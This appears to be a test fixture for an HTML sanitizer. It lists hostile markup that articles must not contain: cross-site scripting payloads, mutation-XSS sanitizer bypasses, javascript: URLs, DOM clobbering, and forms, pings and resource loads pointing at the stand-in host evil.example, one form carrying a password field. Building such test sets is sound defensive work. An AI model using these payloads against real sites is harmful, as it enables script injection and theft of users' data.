// Markup that no article may have.

/**
 * Each belongs in an article as it is. They set the flag `hacked`, ask a server, or look like the reader's own parts.
 * What swallows the rest of a page has to stand at its end.
 */
export const HOSTILE = [
  '<script>hacked = 1</script>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="hacked = 1" onerror="hacked = 1">',
  '<img src=x: onerror=hacked=1>',
  '<svg onload=hacked=1><script>hacked = 1</script><foreignObject><img src=x: onerror=hacked=1></foreignObject></svg>',
  '<svg><style><img title="</style><img src=x: onerror=hacked=1>"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=hacked=1&gt;"></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x: onerror=hacked=1></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x: onerror=hacked=1>"></noscript>',
  '<template><img src=x: onerror=hacked=1></template>',
  '<p><a href="javascript:hacked=1">one</a> <a href=" jAvA\tscript:hacked=1">two</a> <a href="data:text/html,<script>hacked=1</script>">three</a> <a href="vbscript:x">four</a></p>',
  '<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe><iframe src="javascript:parent.hacked=1"></iframe>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<link rel=stylesheet href="https://evil.example/style.css"><link rel=prefetch href="https://evil.example/prefetch">',
  '<style>@import "https://evil.example/import.css"; * { background: url(https://evil.example/background) }</style>',
  '<p style="background: url(https://evil.example/inline); position: fixed; inset: 0">Over everything</p>',
  '<form action="https://evil.example/form"><input name=password value=x autofocus onfocus=hacked=1><button formaction="javascript:hacked=1">Go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0; url=https://evil.example/refresh">',
  '<p id=article name=notice class=article>Clobbers</p><form id=body><input name=attributes><input name=parentNode></form><img name=getElementById src="https://pictures.example/c.png">',
  '<video src="https://evil.example/v.mp4" autoplay onplay=hacked=1 onerror=hacked=1 poster="https://pictures.example/poster.png"></video>',
  '<details open ontoggle=hacked=1><summary>More</summary>x</details>',
  '<p><a href="https://a.example/" ping="https://evil.example/ping" target=_top onclick=hacked=1>ping</a></p>',
  '<p popover id=p1>x</p><button popovertarget=settings>y</button><dialog open>z</dialog>',
  '<a href="#x"><svg><use href="https://evil.example/sprite.svg#a"></use><image href="https://evil.example/svg.png"></image></svg></a>',
  '<xmp><img src=x: onerror=hacked=1></xmp><plaintext><img src=x: onerror=hacked=1>',
];
